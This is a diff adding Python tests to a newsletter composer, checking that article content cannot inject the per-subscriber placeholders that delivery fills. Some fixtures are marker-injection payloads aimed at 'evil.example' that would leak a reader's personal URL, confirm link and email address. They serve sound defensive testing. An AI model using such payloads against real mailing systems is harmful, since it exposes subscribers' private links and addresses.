@@ -41,6 +41,47 @@ def test_the_holes_are_those_that_delivery_fills() -> None:
         assert sorted(marked) == [Hole.LEAVE_URL, Hole.ME_URL, Hole.VIEW_URL]
 
 
+@pytest.mark.parametrize(
+    "html",
+    [
+        '<img/src="https://evil.example/p.png?&#xfdd0;ME_URL&#xfdd1;&amp;a=&#xfdd0;ADDRESS&#xfdd1;">',
+        "<a/href='https://evil.example/?&#64976;CONFIRM_URL&#64977;'>x</a> &#xfdd0;LEAVE_URL&#xfdd1;",
+        "<p>&#xfdd0; a half</p>",
+        "<p>&amp;#xfdd0;ME_URL&amp;#xfdd1; told twice</p>",
+        "<p>\ufdd0ME_URL\ufdd1</p>",
+    ],
+)
+def test_no_article_opens_a_hole(html: str) -> None:
+    articles = [article(1, html), article(2, html, summary=" ")]
+    composed = compose(*articles)
+    assert output_faults(composed, articles, minimum=2) == ()
+    for part in (composed.html, composed.text):
+        assert sum(part.count(mark) for mark in MARKS) == 6
+
+
+@pytest.mark.parametrize("link", ["http://1.2.3.256/x", "http://xn--a/x", "http://[fe80::1%25eth0]/x"])
+def test_a_link_that_a_library_refuses_stops_no_issue(link: str) -> None:
+    articles = [replace(article(1, "<p>See <a href='/b'>b</a>.</p>"), link=link), article(2)]
+    assert output_faults(compose(*articles), articles, minimum=2) == ()
+
+
+def test_two_articles_may_share_a_link() -> None:
+    articles = [article(1), replace(article(2), link=article(1).link)]
+    composed = compose(*articles)
+    assert output_faults(composed, articles, minimum=2) == ()
+    alone = compose(article(1))
+    assert Rule.LINK in {fault.rule for fault in output_faults(alone, articles, minimum=1)}
+    assert Rule.ENOUGH in {fault.rule for fault in output_faults(alone, articles, minimum=2)}
+
+
+def test_braces_of_the_owner_are_no_fault() -> None:
+    articles, foreword = [article(1), article(2)], "See {{ x }}, and {% y %}."
+    masthead = replace(MASTHEAD, title="The {{ name }} blog")
+    composed = COMPOSER.compose(masthead, 12, DATED_S, articles, foreword)
+    assert output_faults(composed, articles, 2, (masthead.title, foreword)) == ()
+    assert {fault.rule for fault in output_faults(composed, articles, 2)} == {Rule.TOKEN}
+
+
 def test_no_article_makes_no_issue() -> None:
     with pytest.raises(ValueError, match="at least one article"):
         compose()
@@ -166,6 +207,9 @@ def test_each_fault_of_the_output_is_found() -> None:
     leave = Hole.LEAVE_URL.marker
     assert faults_of(replace(good, html=good.html.replace(leave, "https://x.example/"))) == {Rule.LEAVE}
     assert faults_of(replace(good, text=good.text + leave)) == {Rule.LEAVE}
+    for hole in (Hole.ADDRESS, Hole.CONFIRM_URL, Hole.ME_URL):
+        assert faults_of(replace(good, text=good.text + hole.marker)) == {Rule.HOLE}
+    assert faults_of(replace(good, html=good.html + min(MARKS))) == {Rule.HOLE}
     assert faults_of(replace(good, text=good.text + "{{ article.title }}")) == {Rule.TOKEN}
     assert faults_of(replace(good, html=good.html.replace("Ada", "{% if x %}"))) == {Rule.TOKEN}
     assert {Rule.TEXT, Rule.ENOUGH} <= faults_of(replace(good, text=f"short {leave}"))
